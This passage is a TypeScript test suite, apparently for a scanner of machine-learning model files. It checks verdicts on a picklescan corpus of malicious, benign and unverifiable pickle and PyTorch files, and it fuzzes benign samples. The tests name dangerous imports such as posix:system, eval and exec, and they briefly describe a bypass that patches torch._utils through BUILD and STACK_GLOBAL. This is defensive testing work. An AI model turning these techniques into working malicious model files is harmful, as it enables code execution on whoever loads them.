  'pytorch_magic_bypass.pt': { threat: 'PAIT-PYTCH-100', imports: ['__builtin__:eval', 'posix:system'] },
  // no dangerous literal import: torch._utils is patched through BUILD, then STACK_GLOBAL takes the patched names
  'sys_module_override_sploit.pkl': {
    threat: 'PAIT-PKL-100',
    descriptions: [
      'BUILD sets state on the imported torch._utils itself',
      'STACK_GLOBAL with the imported torch._utils._rebuild_tensor and the imported torch._utils._rebuild_tensor instead of literal names'
    ]
  }
}
const NOT_VERIFIED = [
  'malicious1.7z',
  'broken_model.pkl',
  'bad_pytorch.pt',
  'not_a_pickle.bin',
  'benign_password_protected.zip'
]
const BENIGN = [
  'benign0_v0.pkl',
  'benign0_v3.pkl',
  'benign0_v4.pkl',
  'new_pytorch_model.bin',
  'pytorch_model.bin'
]

const scanCorpus = (file: string) =>
  scanLocalModel({ path: path.join(CORPUS, file), modelUri: `corpus/${file}`, policy: POLICY })

describe('the picklescan corpus', () => {
  it('has an expectation for every file', () => {
    const files = readdirSync(CORPUS).filter((f) => f !== 'LICENSE' && f !== 'README.md')
    expect(files.sort()).toEqual([...Object.keys(MALICIOUS), ...NOT_VERIFIED, ...BENIGN].sort())
  })

  it.each(BENIGN)('%s is ALLOWED', async (file) => {
    expectAllowed(await scanCorpus(file))
  })

  it.each(Object.entries(MALICIOUS))('%s is BLOCKED with its code-execution finding', async (file, want) => {
    const r = await scanCorpus(file)
    expect(r.scan.eval_outcome).toBe('BLOCKED')
    const load = r.violations.filter((v) => v.rule_name === LOAD)
    expect(load.some((v) => v.threat?.endsWith('-100'))).toBe(true)
    for (const imp of want.imports ?? []) {
      const [module, operator] = imp.split(':')
      expect(load).toContainEqual(expect.objectContaining({ threat: want.threat, module, operator, file }))
    }
    for (const d of want.descriptions ?? [])
      expect(load).toContainEqual(
        expect.objectContaining({ threat: want.threat, description: expect.stringContaining(d) })
      )
  })

  it.each(NOT_VERIFIED)('%s is not verified (blocked when something in it is found too)', async (file) => {
    const r = await scanCorpus(file)
    expect(r.unverified).toContainEqual(expect.objectContaining(unverified({ file })))
    const found = r.violations.some((v) => v.rule_name !== FORMAT_RULE)
    expect(r.scan.eval_outcome).toBe(found ? 'BLOCKED' : 'ERROR')
    expect(r.files.map((f) => f.result)).toEqual([found ? 'FAILED' : 'ERROR'])
  })

  it('broken_model.pkl: the exec before the break is found', async () => {
    const r = await scanCorpus('broken_model.pkl')
    expect(r.violations).toContainEqual(
      expect.objectContaining({ rule_name: LOAD, module: 'builtins', operator: 'exec' })
    )
  })
})

const SHARED = path.resolve(fileURLToPath(new URL('../../', import.meta.url)), '../shared/corpus/picklescan')

// the vendored copy is checked against the workplace's shared corpus whenever that directory is there
;(existsSync(SHARED) ? describe : describe.skip)('the vendored picklescan corpus', () => {
  it('equals the shared corpus byte for byte', () => {
    const names = readdirSync(SHARED).sort()
    expect(readdirSync(CORPUS).sort()).toEqual(names)
    for (const n of names)
      expect(readFileSync(path.join(CORPUS, n)).equals(readFileSync(path.join(SHARED, n)))).toBe(true)
  })
})

// ---- fuzzing the benign samples through the whole engine ----

describe('mutated benign samples', () => {
  const legacy = legacyTorch()
  /** `strict`: a truncation before this offset breaks a pickle or a zip, so it must never be ALLOWED. */
  const SAMPLES: Array<{ name: string; data: Buffer; strict: number }> = [
    { name: 'weights.pkl', data: torchStateDictPickle(), strict: Infinity },
    { name: 'model.pt', data: torchZip(), strict: Infinity },
    // the raw storages after the 5 pickles are not pickles: cutting them is a matter for torch, not the engine
    { name: 'legacy.pt', data: legacy, strict: legacy.length - 8 - 48 },
    { name: 'benign.pkl', data: readFileSync(path.join(CORPUS, 'benign0_v4.pkl')), strict: Infinity },
    { name: 'model.safetensors', data: safetensors(), strict: 0 },
    { name: 'x.npy', data: npyIntArray([1, 2, 3]), strict: 0 }
  ]

  it('the unmutated samples are ALLOWED', async () => {
    for (const s of SAMPLES) expectAllowed(await scanOne(s.name, s.data))
  })

  it('always resolve ALLOWED, BLOCKED or not verified (with the reason), and never ALLOWED once a pickle or zip is truncated', async () => {
    const mutation = fc.oneof(
      fc.record({ kind: fc.constant('truncate' as const), at: fc.double({ min: 0, max: 1, noNaN: true }) }),
      fc.record({
        kind: fc.constant('flip' as const),
        at: fc.double({ min: 0, max: 1, noNaN: true }),
        bit: fc.integer({ min: 0, max: 7 })
      }),
      fc.record({
        kind: fc.constant('splice' as const),
        at: fc.double({ min: 0, max: 1, noNaN: true }),
        bytes: fc.uint8Array({ minLength: 1, maxLength: 16 })
      })
    )
    await fc.assert(
      fc.asyncProperty(fc.nat({ max: SAMPLES.length - 1 }), mutation, async (which, m) => {
        const s = SAMPLES[which]!
        const pos = Math.min(s.data.length - 1, Math.floor(m.at * s.data.length))
        let data: Buffer
        if (m.kind === 'truncate') data = s.data.subarray(0, Math.max(1, pos))
        else if (m.kind === 'flip') {
          data = Buffer.from(s.data)
          data[pos] = data[pos]! ^ (1 << m.bit)
        } else data = Buffer.concat([s.data.subarray(0, pos), Buffer.from(m.bytes), s.data.subarray(pos)])
        const r = await scanOne(s.name, data)
        const outcome = r.scan.eval_outcome
        // ERROR only for a reason: nothing to verify (a few bytes of text), or a file that could not be verified
        const expected =
          r.nothingToVerify || r.unverified.length > 0 ? ['ERROR', 'BLOCKED'] : ['ALLOWED', 'BLOCKED']
        expect(expected).toContain(outcome)
        expect(outcome !== 'ERROR' || r.unverified.length > 0 || r.nothingToVerify !== undefined).toBe(true)
        const truncated = m.kind === 'truncate' && data.length < s.data.length && data.length < s.strict
        expect({ truncated, outcome }).not.toEqual({ truncated: true, outcome: 'ALLOWED' })
      }),
      { numRuns: 100 }
    )
  })
})
